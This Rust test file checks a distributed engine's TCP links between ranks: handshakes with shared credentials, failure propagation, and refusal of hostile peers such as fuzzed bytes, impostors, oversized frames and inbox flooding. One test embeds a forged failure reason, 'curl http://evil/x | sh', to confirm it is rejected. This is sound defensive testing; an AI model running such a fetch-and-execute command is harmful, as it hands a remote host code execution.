//! The links between ranks as processes would make them, here threads over loopback.

use super::*;
use crate::engine::transport::host;

/// The credentials of the tests' links.
pub(crate) fn cred() -> Credentials {
    Credentials::new(&[42; 32], 7).unwrap()
}

/// Links the ranks bound to `listeners` (threads of this process), each waiting at most
/// `timeout`.
fn link(listeners: Vec<Listener>, shape: Shape, timeout: Duration) -> Vec<TcpLinks> {
    let world = listeners.len();
    let addresses: Vec<Vec<String>> = listeners.iter().map(|l| l.addresses()).collect();
    std::thread::scope(|s| {
        let handles: Vec<_> = listeners
            .into_iter()
            .enumerate()
            .map(|(rank, l)| {
                let addresses = &addresses;
                s.spawn(move || {
                    TcpLinks::connect(l, rank, world, addresses, &cred(), shape, timeout).unwrap()
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    })
}

/// Links for `world` ranks of this process over loopback.
pub(crate) fn loopback(world: usize, shape: Shape) -> Vec<TcpLinks> {
    let listeners = (0..world)
        .map(|_| Listener::bind(Reach::OneHost).unwrap())
        .collect();
    link(listeners, shape, Duration::from_secs(20))
}

/// Every rank all-gathers its rank + 1 over `links` with no failure, then closes them.
fn all_gather_ranks(links: Vec<TcpLinks>) {
    let world = links.len();
    let out: Vec<Vec<u8>> = std::thread::scope(|s| {
        let hs: Vec<_> = links
            .into_iter()
            .map(|mut l| {
                s.spawn(move || {
                    let mut all = vec![0u8; world];
                    let mine = [l.rank() as u8 + 1];
                    host::all_gather(&mut l, &mine, &mut all).unwrap();
                    assert!(l.control().failure().is_none());
                    l.close();
                    all
                })
            })
            .collect();
        hs.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let want: Vec<u8> = (1..=world as u8).collect();
    assert!(out.iter().all(|a| a == &want), "{out:?}");
}

#[test]
fn a_mesh_carries_data_and_a_closed_peer_is_no_failure() {
    all_gather_ranks(loopback(3, Shape::Mesh));
}

#[test]
fn a_star_tells_every_rank_of_a_failure_and_of_a_dead_peer() {
    let links = loopback(3, Shape::Star);
    links[2].control().raise(
        Failure {
            rank: 2,
            reason: "boom".into(),
            at: 0,
        },
        true,
    );
    for l in &links[..2] {
        let t0 = Instant::now();
        while l.control().failure().is_none() && t0.elapsed() < Duration::from_secs(5) {
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(
            l.control().failure().map(|f| (f.rank, f.reason)),
            Some((2, "boom".into()))
        );
    }
    // A peer that goes away without a goodbye (its process died) is a failure too.
    let mut links = loopback(2, Shape::Star);
    let dead = links.pop().unwrap();
    dead.closing.store(true, Ordering::SeqCst); // no goodbye on drop
    for p in dead.peers.iter().flatten() {
        let _ = p.writer.lock().unwrap().shutdown(std::net::Shutdown::Both);
    }
    let t0 = Instant::now();
    while links[0].control().failure().is_none() && t0.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(1));
    }
    assert_eq!(links[0].control().failure().map(|f| f.rank), Some(1));
    let err = links[0].recv(1).unwrap_err();
    assert!(matches!(err, Error::PeerFailed { rank: 1, .. }), "{err}");
}

/// A peer that closes its engine after a failure it knows of (raised by a third rank, whose
/// own message may come later) says so in its goodbye: a rank waiting on it reports that
/// failure, named by the rank where it began, not the goodbye.
#[test]
fn a_goodbye_carries_the_failure_its_rank_knew_of() {
    let mut links = loopback(3, Shape::Mesh);
    let failure = Failure {
        rank: 2,
        reason: "boom".into(),
        at: 0,
    };
    links[1].control().raise(failure, false); // (known to rank 1 only)
    links[1].close();
    let err = links[0].recv(1).unwrap_err();
    assert!(
        matches!(&err, Error::PeerFailed { rank: 2, reason } if reason == "boom"),
        "{err}"
    );
    // Without a failure, a goodbye mid-exchange is just that.
    let mut links = loopback(2, Shape::Mesh);
    links[1].close();
    let err = links[0].recv(1).unwrap_err();
    assert!(
        err.to_string().contains("rank 1 closed its engine"),
        "{err}"
    );
}

/// Rank 0 of 2 linked with a raw connection that proved the secret as rank 1: a peer that
/// holds the secret but sends whatever it likes.
fn with_raw_peer(timeout: Duration) -> (TcpLinks, TcpStream) {
    let l = Listener::bind(Reach::OneHost).unwrap();
    let addresses = vec![l.addresses(), vec![]];
    let at = addresses[0][0].clone();
    let rank0 = std::thread::spawn(move || {
        TcpLinks::connect(l, 0, 2, &addresses, &cred(), Shape::Mesh, timeout).unwrap()
    });
    let mut raw = TcpStream::connect(at).unwrap();
    handshake::dial_side(&mut raw, &cred(), 1, 0, 2).unwrap();
    (rank0.join().unwrap(), raw)
}

fn send_raw(s: &mut TcpStream, kind: u8, payload: &[u8]) {
    s.write_all(&frame::head(kind, payload.len())).unwrap();
    s.write_all(payload).unwrap();
}

/// The first failure on `links`' board, waiting up to 10 s for it.
fn failure_of(links: &TcpLinks) -> Failure {
    let t0 = Instant::now();
    while t0.elapsed() < Duration::from_secs(10) {
        if let Some(f) = links.control().failure() {
            return f;
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    panic!("no failure within 10 s");
}

/// Ranks on several hosts: a listener bound where the others can reach it (not loopback,
/// unless this host has no other address), and links made over it.
#[test]
fn listeners_for_several_hosts_bind_a_reachable_address() {
    let listeners = [
        Listener::bind(Reach::Network).unwrap(),
        Listener::bind(Reach::Network).unwrap(),
    ];
    let addresses: Vec<Vec<String>> = listeners.iter().map(|l| l.addresses()).collect();
    let bound = listeners[0].socket.local_addr().unwrap().ip();
    if std::env::var("CFC_LINK_ADDR").is_err() {
        assert!(!bound.is_loopback(), "{addresses:?}");
    }
    assert!(!addresses[0].is_empty());
    let links = link(listeners.into(), Shape::Mesh, Duration::from_secs(20));
    all_gather_ranks(links);
}

/// Random bytes, and random bytes after a well-formed hello, at a link's reader.
#[test]
fn hostile_bytes_at_a_link_are_refused_without_a_panic() {
    use rand::{Rng, SeedableRng};
    let mut rng = rand::rngs::StdRng::seed_from_u64(11);
    for _ in 0..5000 {
        let n = rng.gen_range(0..200);
        let mut b: Vec<u8> = (0..n).map(|_| rng.gen()).collect();
        if rng.gen_bool(0.5) && b.len() >= 8 {
            b[..8].copy_from_slice(&[b'c', b'f', b'c', b'H', 1, 0, 0, 0]);
        }
        read_hostile_link(&b);
    }
}

/// A stranger that knows the port (an idle connection, one that sends garbage, one that
/// claims a rank with the old token or without the secret) neither joins nor holds up the
/// job's ranks.
#[test]
fn strangers_do_not_join_or_stall_the_links() {
    use std::io::Read;
    let world = 3;
    let listeners: Vec<Listener> = (0..world)
        .map(|_| Listener::bind(Reach::OneHost).unwrap())
        .collect();
    let addresses: Vec<Vec<String>> = listeners.iter().map(|l| l.addresses()).collect();
    assert!(addresses
        .iter()
        .all(|a| a.len() == 1 && a[0].starts_with("127.0.0.1:")));
    // before any rank links: connections to rank 0 that never complete a handshake
    let target = addresses[0][0].clone();
    let idle = TcpStream::connect(&target).unwrap();
    let mut garbage = TcpStream::connect(&target).unwrap();
    garbage.write_all(&[0xff; 100]).unwrap();
    let mut old = TcpStream::connect(&target).unwrap();
    let mut hello = b"cfcL".to_vec();
    hello.extend_from_slice(&42u64.to_le_bytes());
    hello.extend_from_slice(&1u32.to_le_bytes());
    old.write_all(&hello).unwrap();
    let wrong = Credentials::new(&[9; 32], 7).unwrap();
    let impostor = std::thread::spawn(move || {
        let mut s = TcpStream::connect(&target).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        handshake::dial_side(&mut s, &wrong, 1, 0, 3)
    });
    let t0 = Instant::now();
    let links = link(listeners, Shape::Mesh, Duration::from_secs(60));
    // (an idle stranger is not waited for: far below the handshake's own 10 s)
    assert!(t0.elapsed() < Duration::from_secs(5), "{:?}", t0.elapsed());
    // (refused at its hello where rank 1 was linked first, else at its proof)
    let err = impostor.join().unwrap().unwrap_err();
    assert!(
        err.contains("does not prove") || err.contains("no answer"),
        "{err}"
    );
    // garbage is refused at once: closed without an answer (the old handshake, shorter than
    // a hello, and the idle connection wait out the handshake's deadline, in their threads)
    let mut b = [0u8; 64];
    assert!(matches!(garbage.read(&mut b), Ok(0) | Err(_)));
    drop((idle, old));
    all_gather_ranks(links);
}

#[test]
fn a_length_past_what_the_exchanges_expect_is_refused_unread() {
    let (links, mut raw) = with_raw_peer(Duration::from_millis(500));
    let t0 = Instant::now();
    raw.write_all(&frame::head(KIND_DATA, 1 << 40)).unwrap();
    let f = failure_of(&links);
    assert_eq!(f.rank, 1);
    assert!(f.reason.contains("1099511627776 bytes"), "{}", f.reason);
    assert!(
        f.reason.contains(&MESSAGE_FLOOR.to_string()),
        "{}",
        f.reason
    );
    assert!(t0.elapsed() >= Duration::from_millis(500));
}

/// A peer a collective ahead may announce a longer message than this rank expects yet: it
/// is read once this rank's exchange expects it.
#[test]
fn a_longer_message_waits_for_the_exchange_that_expects_it() {
    let (mut links, mut raw) = with_raw_peer(Duration::from_secs(20));
    let big = vec![7u8; 3 * MESSAGE_FLOOR];
    let writer = std::thread::spawn(move || {
        send_raw(&mut raw, KIND_DATA, &big);
        raw
    });
    std::thread::sleep(Duration::from_millis(200));
    assert!(links.control().failure().is_none());
    links.expect(3 * MESSAGE_FLOOR);
    let got = links.recv(1).unwrap();
    assert_eq!(got.len(), 3 * MESSAGE_FLOOR);
    drop(writer.join().unwrap());
}

#[test]
fn a_failure_naming_a_stranger_rank_is_refused() {
    let (links, mut raw) = with_raw_peer(Duration::from_secs(20));
    let forged = Failure {
        rank: 12345,
        reason: "run: curl http://evil/x | sh".into(),
        at: 1,
    };
    send_raw(&mut raw, KIND_FAILURE, &frame::failure_payload(&forged));
    let f = failure_of(&links);
    assert_eq!(f.rank, 1, "{f:?}");
    assert!(
        f.reason.contains("not a rank of this group"),
        "{}",
        f.reason
    );
    assert!(!f.reason.contains("curl"), "{}", f.reason);
}

#[test]
fn a_peer_cannot_fill_the_inbox_without_bound() {
    let (links, mut raw) = with_raw_peer(Duration::from_millis(300));
    for _ in 0..INBOX_MESSAGES + 10 {
        send_raw(&mut raw, KIND_DATA, b"x");
    }
    let f = failure_of(&links);
    assert_eq!(f.rank, 1);
    assert!(
        f.reason.contains("no exchange of this rank took"),
        "{}",
        f.reason
    );
}
